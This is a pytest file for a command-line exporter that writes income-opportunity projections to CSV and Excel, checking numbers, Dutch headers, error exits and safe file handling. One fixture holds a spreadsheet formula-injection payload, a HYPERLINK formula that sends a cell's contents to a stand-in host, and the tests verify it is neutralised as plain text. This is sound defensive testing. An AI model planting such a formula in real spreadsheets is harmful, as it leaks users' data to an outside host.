"""``python -m evaluator export FILE -o OUT.csv|OUT.xlsx [--lang nl|en]`` end to end: the CSV read
back with the csv module, the workbook opened with openpyxl (numbers are number cells, a hostile
offer name is a string cell), and bad input exiting 2 with nothing written."""

from __future__ import annotations

import csv
import os
import subprocess

import pytest

from evaluator import export as export_module
from evaluator.core.fileformat import from_data
from evaluator.core.simulation import simulate

from .helpers import run_command, write_doc

openpyxl = pytest.importorskip("openpyxl")

HOSTILE = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
# Sign-up 500, 100 per recruit, 1 recruit a month, 12 months: month 1 net 100 - 500 = -400, then
# +100 a month: cumulative -400 + 11 * 100 = 700 at month 12.
DOC = {
    "format": "opportunity-evaluation", "version": 1,
    "offer": {"name": HOSTILE, "company": "@evil", "fees": {"signup": 500},
              "payout": {"retail_mode": "none", "recruit_bonus": 100},
              "disclosure": {"year": 2024, "source": "-statement", "basis": "active",
                             "covered_percent": 40,
                             "tiers": [{"name": "+low", "share_percent": 75, "annual_average": 100},
                                       {"name": "high", "share_percent": 25,
                                        "annual_average": 3000, "annual_median": 2400}]}},
    "assumptions": {"horizon_months": 12, "recruits_per_month": 1},
    "simulation": {"existing_participants": 200, "market_size": 2000, "seed": 7},
}


def run_cli(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
    return run_command("export", *args, env=env)


@pytest.fixture
def doc_file(tmp_path):
    return write_doc(tmp_path, DOC)


def test_csv_reads_back_as_numbers_under_the_header(doc_file, tmp_path):
    out = tmp_path / "plan.csv"
    result = run_cli(str(doc_file), "-o", str(out))
    assert result.returncode == 0, result.stderr
    with open(out, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["month", "retail", "downline", "recruiting", "rank", "fees", "purchases",
                       "training", "other", "net", "cumulative_net", "typical_cumulative_net"]
    assert len(rows) == 13
    first = dict(zip(rows[0], rows[1]))
    assert int(first["month"]) == 1
    assert float(first["recruiting"]) == 100 and float(first["fees"]) == 500
    assert float(first["net"]) == -400 and float(first["cumulative_net"]) == -400
    assert float(dict(zip(rows[0], rows[12]))["cumulative_net"]) == 700
    # Typical: 60% not covered at 0, then 30% at 100, 10% at 2,400: the median (cumulative >= 50)
    # is the implied zero tier, so gross 0; no costs beyond the 500 sign-up: -500 from month 1.
    assert [float(r[11]) for r in rows[1:]] == [-500.0] * 12


def test_csv_header_in_dutch(doc_file, tmp_path):
    out = tmp_path / "plan.csv"
    assert run_cli(str(doc_file), "-o", str(out), "--lang", "nl").returncode == 0
    with open(out, newline="", encoding="utf-8") as fh:
        head = next(csv.reader(fh))
    assert head == ["maand", "verkoop", "netwerk", "werven", "rang", "vaste_kosten", "aankopen",
                    "training", "overig", "netto", "cumulatief_netto", "typisch_cumulatief_netto"]


def test_xlsx_sheets_numbers_and_a_hostile_name_as_text(doc_file, tmp_path):
    out = tmp_path / "plan.xlsx"
    result = run_cli(str(doc_file), "-o", str(out))
    assert result.returncode == 0, result.stderr
    wb = openpyxl.load_workbook(out)  # formulas would come back as "=..." with data_type "f"
    assert wb.sheetnames == ["Projection", "Red flags", "Disclosure", "Simulation", "About"]

    ws = wb["Projection"]
    assert [c.value for c in ws[1]][:3] == ["month", "retail", "downline"]
    month1 = ws[2]
    assert month1[0].value == 1 and month1[0].data_type == "n"
    assert month1[3].value == 100 and month1[3].data_type == "n"  # recruiting
    assert month1[9].value == -400 and month1[9].data_type == "n"  # net
    assert ws.cell(row=13, column=11).value == 700  # cumulative_net, month 12
    assert ws.max_row == 13

    about = {row[0].value: row[1] for row in wb["About"].iter_rows()}
    assert about["offer"].value == HOSTILE and about["offer"].data_type == "s"
    assert about["company"].value == "@evil" and about["company"].data_type == "s"
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)

    flags = wb["Red flags"]
    ids = [r[0].value for r in flags.iter_rows(min_row=2)]
    assert {"pay_to_join", "recruitment_rewards"} <= set(ids)

    # Disclosure on an all-participants basis: 60 (implied, 0), 75% x 40 = 30 (100), 10 (2,400).
    tiers = [[c.value for c in r] for r in wb["Disclosure"].iter_rows(min_row=2, max_row=4)]
    assert [t[1] for t in tiers] == pytest.approx([60, 30, 10])
    assert [t[2] for t in tiers] == pytest.approx([0, 100, 2400])
    assert tiers[1][0] == "+low"  # text stays text (no leading quote inside the workbook)

    sim = simulate(from_data(DOC))  # the same settings and seed as the export
    rows = {r[0].value: r for r in wb["Simulation"].iter_rows(min_row=2, max_row=7)}
    assert sorted(rows) == [10, 25, 50, 75, 90, 99]
    assert rows[50][2].value == pytest.approx(sim.everyone_net_percentiles["50"])
    assert rows[10][1].value == pytest.approx(sim.cohort_net_percentiles["10"])
    assert rows[50][2].data_type == "n"


def test_xlsx_in_dutch(doc_file, tmp_path):
    out = tmp_path / "plan.xlsx"
    assert run_cli(str(doc_file), "-o", str(out), "--lang", "nl").returncode == 0
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["Projectie", "Rode vlaggen", "Inkomensverklaring", "Simulatie", "Over"]
    assert wb["Projectie"]["A1"].value == "maand"


def test_neutralize_formula_like_text():
    assert export_module.neutralize("=1+2") == "'=1+2"
    assert export_module.neutralize("+31 6") == "'+31 6"
    assert export_module.neutralize("-x") == "'-x"
    assert export_module.neutralize("@SUM(A1)") == "'@SUM(A1)"
    assert export_module.neutralize("\t=1") == "'\t=1"
    assert export_module.neutralize("plain - text") == "plain - text"


@pytest.mark.parametrize("args, message", [
    (["-o", "{tmp}/plan.txt"], ".csv or .xlsx"),
    (["-o", "{tmp}/missing/plan.csv"], "does not exist"),
    (["-o", "{tmp}/plan.csv", "--lang", "de"], "--lang"),
])
def test_bad_arguments_exit_2_and_write_nothing(doc_file, tmp_path, args, message):
    args = [a.format(tmp=tmp_path) for a in args]
    before = sorted(os.listdir(tmp_path))
    result = run_cli(str(doc_file), *args)
    assert result.returncode == 2
    assert message in result.stderr and "Traceback" not in result.stderr
    assert sorted(os.listdir(tmp_path)) == before


def test_invalid_file_exits_2_and_keeps_the_old_output(tmp_path):
    bad = write_doc(tmp_path, {**DOC, "assumptions": {"horizon_months": 0}}, "bad.oppeval")
    out = tmp_path / "plan.xlsx"
    out.write_bytes(b"old")
    result = run_cli(str(bad), "-o", str(out))
    assert result.returncode == 2
    assert "assumptions.horizon_months" in result.stderr
    assert out.read_bytes() == b"old"


def test_output_that_is_a_folder_or_a_symlink_is_refused(doc_file, tmp_path):
    folder = tmp_path / "plan.csv"
    folder.mkdir()
    assert run_cli(str(doc_file), "-o", str(folder)).returncode == 2
    target = tmp_path / "target.csv"
    target.write_text("keep")
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    result = run_cli(str(doc_file), "-o", str(link))
    assert result.returncode == 2 and "symbolic link" in result.stderr
    assert target.read_text() == "keep"


def test_a_fifo_as_output_is_refused_without_waiting_on_it(doc_file, tmp_path):
    fifo = tmp_path / "plan.csv"
    os.mkfifo(fifo)
    result = run_cli(str(doc_file), "-o", str(fifo), env={"LANG": "C"})
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert "not a regular file" in result.stderr or "FIFO" in result.stderr, result.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["offer.oppeval", "plan.csv"]


def test_messages_are_in_the_language_of_the_environment(doc_file, tmp_path):
    # --lang is the spreadsheet's language; the messages follow LANG, as the report's do.
    folder = tmp_path / "plan.csv"
    folder.mkdir()
    dutch = run_cli(str(doc_file), "-o", str(folder), env={"LANG": "nl_NL.UTF-8"})
    assert dutch.returncode == 2
    assert "is een map; geef de bestandsnaam van de spreadsheet" in dutch.stderr, dutch.stderr
    english = run_cli(str(doc_file), "-o", str(folder), "--lang", "nl", env={"LANG": "C"})
    assert "is a folder; give the spreadsheet's file name" in english.stderr, english.stderr
    unknown = run_cli(str(doc_file), "-o", str(tmp_path / "p.csv"), "--lang", "de",
                      env={"LANG": "nl_NL.UTF-8"})
    assert unknown.returncode == 2 and "--lang: onbekende taal 'de'" in unknown.stderr


def test_a_simulation_the_settings_refuse_exits_2_naming_the_field(tmp_path):
    # Valid in the file (up to 1e12) but beyond what the simulation handles (10 million).
    doc = {**DOC, "simulation": {"existing_participants": 20_000_000, "market_size": 20_000_000}}
    path = write_doc(tmp_path, doc, "x.oppeval")
    result = run_cli(str(path), "-o", str(tmp_path / "y.xlsx"))
    assert result.returncode == 2
    assert "simulation.existing_participants" in result.stderr and "Traceback" not in result.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["x.oppeval"]
    # The CSV has no simulation sheet, so it needs no simulation.
    assert run_cli(str(path), "-o", str(tmp_path / "y.csv")).returncode == 0


def test_a_failure_while_writing_leaves_the_old_file_and_no_temp(tmp_path, monkeypatch):
    ev = from_data(DOC)
    out = tmp_path / "plan.xlsx"
    out.write_bytes(b"old")
    calls = {"n": 0}
    original = export_module._Sheet.line

    def failing(self, *args, **kwargs):
        calls["n"] += 1
        if calls["n"] > 3:
            raise OSError(28, "No space left on device")
        return original(self, *args, **kwargs)

    monkeypatch.setattr(export_module._Sheet, "line", failing)
    with pytest.raises(OSError):
        export_module.export(out, ev, "en", simulate(ev))
    assert out.read_bytes() == b"old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["plan.xlsx"]
